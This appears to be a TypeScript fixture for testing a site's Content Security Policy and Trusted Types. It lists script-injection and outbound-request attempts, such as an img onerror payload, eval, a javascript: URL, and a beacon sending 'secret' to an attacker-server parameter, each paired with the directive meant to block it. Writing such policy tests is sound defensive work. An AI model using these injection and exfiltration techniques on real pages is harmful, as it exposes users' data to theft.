/** What script in a page of ours could try. */

/** What is done, the directive that stops it, and how it is done; `address` is the attacker's server. */
export const attacks: readonly (readonly [
  what: string,
  directive: string,
  attack: (address: string) => unknown,
])[] = [
  [
    'writes an inline script',
    'require-trusted-types-for',
    () => {
      document.createElement('script').text = 'window.pwned = 1';
    },
  ],
  [
    'writes markup',
    'require-trusted-types-for',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned = 1">');
    },
  ],
  [
    'sets an inline handler',
    'require-trusted-types-for',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.pwned = 1');
      document.body.append(button);
      button.click();
    },
  ],
  [
    'evaluates text',
    'require-trusted-types-for',
    () => Reflect.apply(Reflect.get(window, 'eval'), window, ['window.pwned = 1']),
  ],
  [
    'makes a function of text',
    'require-trusted-types-for',
    () => Reflect.construct(Function, ['window.pwned = 1']),
  ],
  [
    'makes a policy of its own',
    'trusted-types',
    () => Reflect.get(window, 'trustedTypes').createPolicy('evil', {}),
  ],
  [
    'appends a foreign script',
    'require-trusted-types-for',
    (address) => {
      document.createElement('script').src = address;
    },
  ],
  [
    'shows a remote image',
    'img-src',
    (address) => {
      new Image().src = address;
    },
  ],
  ['fetches', 'connect-src', (address) => fetch(address, { mode: 'no-cors' })],
  ['sends a beacon', 'connect-src', (address) => navigator.sendBeacon(address, 'secret')],
  ['opens a socket', 'connect-src', (address) => new WebSocket(address.replace('http', 'ws'))],
  ['listens to a foreign stream', 'connect-src', (address) => new EventSource(address)],
  [
    'posts a form',
    'form-action',
    (address) => {
      const form = document.createElement('form');
      Object.assign(form, { action: address, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'frames a page',
    'frame-src',
    (address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    },
  ],
  [
    'embeds an object',
    'require-trusted-types-for',
    (address) => {
      const object = document.createElement('object');
      object.data = address;
      document.body.append(object);
    },
  ],
  [
    'moves the base of all addresses',
    'base-uri',
    (address) => {
      const base = document.createElement('base');
      base.href = address;
      document.head.append(base);
    },
  ],
  [
    'loads a foreign style',
    'style-src-elem',
    (address) => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'stylesheet', href: address });
      document.head.append(link);
    },
  ],
  [
    'writes a style without the nonce',
    'style-src-elem',
    (address) => {
      const style = document.createElement('style');
      style.textContent = `body { background: url(${address}) }`;
      document.head.append(style);
    },
  ],
  [
    'plays foreign media',
    'media-src',
    (address) => {
      new Audio(address).play().catch(() => undefined);
    },
  ],
  [
    'prefetches',
    'default-src',
    (address) => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'prefetch', href: address });
      document.head.append(link);
    },
  ],
  ['starts a foreign worker', 'require-trusted-types-for', (address) => new Worker(address)],
  [
    'navigates to javascript:',
    'script-src-elem',
    () => {
      location.href = 'javascript:window.pwned = 1';
    },
  ],
];
